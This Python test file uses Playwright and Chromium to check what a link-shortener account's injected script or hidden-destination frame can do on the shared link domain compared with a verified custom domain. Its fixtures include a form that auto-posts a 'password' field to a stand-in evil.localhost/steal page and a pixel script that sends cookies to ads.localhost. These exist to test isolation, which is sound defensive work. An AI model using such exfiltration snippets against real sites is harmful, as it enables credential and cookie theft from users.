"""What an account's script or hidden destination can do in real Chromium, by the host of the link."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page

from tests.browser.product import Product
from tests.browser.servers import Pages
from tests.served import wait_until

MAKE = """
import json, sys, django
django.setup()
from accounts.custom_domains.services import host_provision
from accounts.models import Account
from links.services.domains import domain_create
from links.services.scripts_and_lists import script_write
from links.models import Domain
from links.services.links import datapoint_create
before, destination, script = json.loads(sys.argv[1])
account = Account.objects.get()
own = Domain.objects.filter(name="own.localhost").first()
if own is None:
    own = domain_create(account=account, name="own.localhost")
    host_provision(account=account, host="own.localhost", purpose="links")
snippet = script_write(account=account, name="s", text=script)
for domain, name in ((None, "shared"), (own, "own")):
    common = {"account": account, "domain": domain}
    datapoint_create(**common, alias=before + name + "-script", url=destination, scripts=[snippet])
    datapoint_create(**common, alias=before + name + "-frame", url=destination + "-form", hide_url=True)
"""
FORM = "<form method='post' action='{steal}'><input name='password' value='secret'></form>"
SENT = "document.forms[0].submit()"


def wait_for_requests(seen: list[str], number: int) -> None:
    wait_until(lambda: len(seen) >= number, lambda: seen)


@pytest.fixture(scope="module")
def product() -> Iterator[Product]:
    fresh = Product()
    fresh.settings["LINK_DOMAIN"] = f"go.localhost:{fresh.port}"
    fresh.start()
    yield fresh
    fresh.remove()


def make_links(product: Product, before: str, destination: str, script: str) -> None:
    """Links with the script and links that hide their destination, on both domains, known to the server."""
    product.command("-c", MAKE, json.dumps([before, destination, script]))
    hosts = {"shared": f"go.localhost:{product.port}", "own": f"own.localhost:{product.port}"}
    product.wait_for_links(
        *(f"http://{host}/{before}{name}-{kind}" for name, host in hosts.items() for kind in ("script", "frame"))
    )


@pytest.fixture
def stolen(product: Product, pages: Pages) -> list[str]:
    """What forms sent to the stranger's page. Links with a script and a frame that send one lie on both domains."""
    form = FORM.format(steal=pages.url("/steal", "evil.localhost"))
    script = f"document.body.insertAdjacentHTML('beforeend', {json.dumps(form)}); {SENT}"
    pages.html["/landing"] = "<title>Landing</title>"
    pages.html["/landing-form"] = f"<title>Form</title>{form}<script>{SENT}</script>"
    pages.html["/steal"] = "<title>Thank you</title>"
    seen: list[str] = []

    def noted(method: str, path: str, query: str, headers: object) -> None:
        if path == "/steal":
            seen.append(method)

    pages.upstream = noted
    product.provision("shop.localhost")
    make_links(product, "", pages.url("/landing", "shop.localhost"), script)
    return seen


def test_a_hidden_destination_can_send_forms_only_on_a_verified_domain(
    page: Page, product: Product, pages: Pages, stolen: list[str]
) -> None:
    shared = f"http://go.localhost:{product.port}"
    page.goto(f"{shared}/shared-script")
    page.wait_for_url("**/landing*")
    assert stolen == []
    page.goto(f"{shared}/shared-frame")
    page.wait_for_timeout(1000)
    assert page.frames[1].title() == "Form" and page.url == f"{shared}/shared-frame" and stolen == []
    page.goto(f"{product.url}/l/shared-script")  # on the dashboard's host: a plain redirect
    assert "/landing" in page.url and stolen == []
    page.goto(f"{product.url}/l/shared-frame")
    page.wait_for_url("**/steal*")  # the stranger's page itself, under its own name
    assert f":{product.port}" not in page.url
    stolen.clear()
    for number, alias in enumerate(("own-script", "own-frame"), 1):
        with page.expect_request("**/steal"):
            page.goto(f"http://own.localhost:{product.port}/{alias}")
        wait_for_requests(stolen, number)
    assert stolen == ["POST", "POST"]


PIXEL = """
window.fbq = {{}};
document.cookie = '_fbp=fb.1; path=/; max-age=7776000';
localStorage.setItem('seen', 1); sessionStorage.setItem('seen', localStorage.getItem('seen'));
new Image().src = '{tr}?c=' + encodeURIComponent(document.cookie) + '&s=' + sessionStorage.getItem('seen');
"""


def test_a_script_that_sets_a_cookie_reports_the_visit_on_every_link_domain(
    page: Page, product: Product, pages: Pages
) -> None:
    pages.html["/landing"] = "<title>Landing</title>"
    pages.html["/fbevents.js"] = PIXEL.format(tr=pages.url("/tr", "ads.localhost"))
    reported: list[str] = []

    def noted(method: str, path: str, query: str, headers: object) -> None:
        if path == "/tr":
            reported.append(query)

    pages.upstream = noted
    product.provision("shop.localhost")
    load = "var s = document.createElement('script'); s.async = true; s.src = '{}'; document.head.appendChild(s)"
    script = load.format(pages.url("/fbevents.js", "ads.localhost"))
    make_links(product, "r-", pages.url("/landing", "shop.localhost"), script)
    for number, (host, alias, kept) in enumerate((("go", "r-shared-script", False), ("own", "r-own-script", True)), 1):
        page.goto(f"http://{host}.localhost:{product.port}/{alias}")
        page.wait_for_url("**/landing*")
        cookies = page.context.cookies(f"http://{host}.localhost:{product.port}/")
        assert any(one.get("name") == "_fbp" for one in cookies) is kept
        wait_for_requests(reported, number)
    assert reported == ["c=_fbp%3Dfb.1&s=1"] * 2
